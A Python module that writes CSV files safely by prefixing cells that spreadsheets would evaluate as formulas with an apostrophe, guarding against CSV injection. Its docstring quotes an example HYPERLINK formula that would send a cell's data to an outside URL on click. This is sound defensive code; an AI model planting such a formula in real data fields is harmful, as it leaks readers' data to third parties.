"""CSV files as spreadsheets read them: the one writer every CSV of the registry goes through.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: ``=HYPERLINK("https://…?x="&A1,"Kliknij")`` in a partnership's name would
send a reader's data elsewhere on a click (CSV injection, OWASP). Such a cell gets a leading
apostrophe, which spreadsheets show as text; a number written with a sign or a telephone
number such as "+48 22 …" stays as it is, since it cannot run anything.
"""

import csv
import re
from collections.abc import Iterable

_FORMULA = re.compile(r"^(?:[=@\t\r]|[+-](?![\d\s()./-]*$))")


def neutralised(value) -> str:
    """``value`` as the text of a cell that no spreadsheet evaluates; None is an empty cell."""
    text = "" if value is None else str(value)
    return "'" + text if _FORMULA.match(text) else text


class SafeWriter:
    """``csv.writer`` whose every cell is ``neutralised``: writerow returns what it wrote."""

    def __init__(self, stream, **formatting) -> None:
        self.writer = csv.writer(stream, **formatting)

    def writerow(self, row: Iterable):
        return self.writer.writerow([neutralised(cell) for cell in row])


class Echo:
    """A file-like object whose write returns the line, so that a writer can feed a stream."""

    def write(self, value: str) -> str:
        return value
